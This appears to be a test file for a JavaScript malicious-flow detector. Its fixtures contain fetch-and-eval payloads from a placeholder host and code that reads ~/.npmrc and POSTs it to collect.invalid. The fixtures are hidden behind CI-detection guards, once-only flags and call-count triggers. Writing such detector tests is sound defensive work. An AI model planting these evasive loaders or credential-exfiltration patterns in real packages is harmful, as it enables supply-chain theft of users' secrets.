import assert from 'node:assert/strict';
import { flowsOf } from '../platform/sent.js';

/** What is behind the condition, at an import and where somebody calls it. */
const PAYLOAD = `fetch('https://load.invalid/x').then((r) => r.text()).then((t) => eval(t));`;
const RUN = ['downloaded>evaluated'];

describe('what stands behind a condition that nobody knows', () => {
  for (const guard of [
    `if (process.env.CI && 1) return;`,
    `if (process.env.CI && {}) return;`,
    `if (process.env.CI && process.env.HOME && true) return;`,
    `if (process.env.CI && true) {} else`,
    `if (!(process.env.CI && true))`,
    `const ci = () => process.env.CI && true; if (ci()) return;`,
    `const ci = process.env.CI && true; if (ci) return;`,
    `const later = process.env.CI && (() => 1) ? null : 1; if (!later) return;`,
    `if (['CI', 'TRAVIS'].find((k) => process.env[k])) return;`,
    `if (['CI', 'TRAVIS'].filter((k) => process.env[k]).length) return;`,
    `if (['CI', 'TRAVIS'].filter((k) => process.env[k]).length > 0) return;`,
    `if ([process.env.CI, os.cpus().length < 2].filter(Boolean).length >= 1) return;`,
    `if (['CI', 'TRAVIS'].some((k) => process.env[k])) return;`,
  ])
    it(`is seen: ${guard}`, () => {
      assert.deepEqual(flowsOf(`(function () { ${guard} ${PAYLOAD} })();`), RUN);
      assert.deepEqual(flowsOf(`exports.run = function () { ${guard} ${PAYLOAD} };`), RUN);
    });

  it('has what another way has taken out of a list', () => {
    for (const empty of ['queue.length = 0', 'queue.splice(0)', 'queue.splice(0, queue.length)', 'queue = []']) {
      const code = `let queue = []; queue.push(fs.readFileSync(os.homedir() + '/.npmrc')); function flush() {
        if (!fs.existsSync('/nonexistent')) { ${empty}; return; }
        for (const one of queue.splice(0)) fetch('https://collect.invalid', { method: 'POST', body: one }); } flush();`;
      assert.deepEqual(flowsOf(code), ['credential-file>network@collect.invalid'], empty);
    }
    const emptied = `const queue = [fs.readFileSync(os.homedir() + '/.npmrc')]; queue.length = 0; for (const one of queue) fetch('https://collect.invalid', { body: one });`;
    assert.deepEqual(flowsOf(emptied), []);
  });

  it('is not gone into where it is known', () => {
    for (const guard of [`if (1 && {}) return;`, `if (process.env.CI && 0) {} else return;`, `if (!(0 || true))`])
      assert.deepEqual(flowsOf(`(function () { ${guard} ${PAYLOAD} })();`), [], guard);
  });
});

describe('what happens once', () => {
  const SEND = `function send(name) { fetch('https://collect.invalid', { method: 'POST', body: fs.readFileSync(os.homedir() + '/' + name) }); }`;

  for (const [once, code] of [
    [
      'marked on the function',
      `function once() { if (!once.done) { once.done = 1; send('.npmrc'); } } exports.x = once;`,
    ],
    [
      'marked on an object',
      `const state = {}; exports.x = () => { if (state.done) return; state.done = true; send('.npmrc'); };`,
    ],
    [
      'marked on its own object',
      `class A { constructor() { this.done = false; } run() { if (this.done) return; this.done = true; this.go('.npmrc'); } go(n) { send(n); } } exports.A = A;`,
    ],
  ] as const)
    it(`is followed after a first look has marked it: ${once}`, () => {
      assert.ok(flowsOf(`${SEND} ${code}`).includes('credential-file>network@collect.invalid'));
    });
});

describe('what waits until it was called often enough', () => {
  for (const [counter, code] of [
    ['of the module', `let n = 0; exports.f = () => { if (++n !== 50) return; PAYLOAD };`],
    ['added to', `let n = 0; exports.f = () => { n += 1; if (n < 50) return; PAYLOAD };`],
    ['every so often', `let n = 0; exports.f = () => { if (n++ % 10 === 5) { PAYLOAD } };`],
    ['in an object', `const of = { calls: 0 }; exports.f = () => { of.calls++; if (of.calls === 5) { PAYLOAD } };`],
    [
      'of its own object',
      `class A { constructor() { this.n = 0; } f() { if (++this.n === 5) { PAYLOAD } } } exports.A = A;`,
    ],
  ] as const)
    it(`is followed: ${counter}`, () => {
      assert.deepEqual(flowsOf(code.replace('PAYLOAD', () => PAYLOAD)), RUN);
    });

  it('is not, where the call itself begins to count, or nobody calls it', () => {
    for (const code of [
      `exports.f = () => { let n = 0; if (++n !== 1) { PAYLOAD } };`,
      `let n; exports.f = () => { n = 0; n += 1; if (n > 1) { PAYLOAD } };`,
      `let n = 0; if (++n !== 1) { PAYLOAD }`,
    ])
      assert.deepEqual(flowsOf(code.replace('PAYLOAD', () => PAYLOAD)), [], code);
  });
});
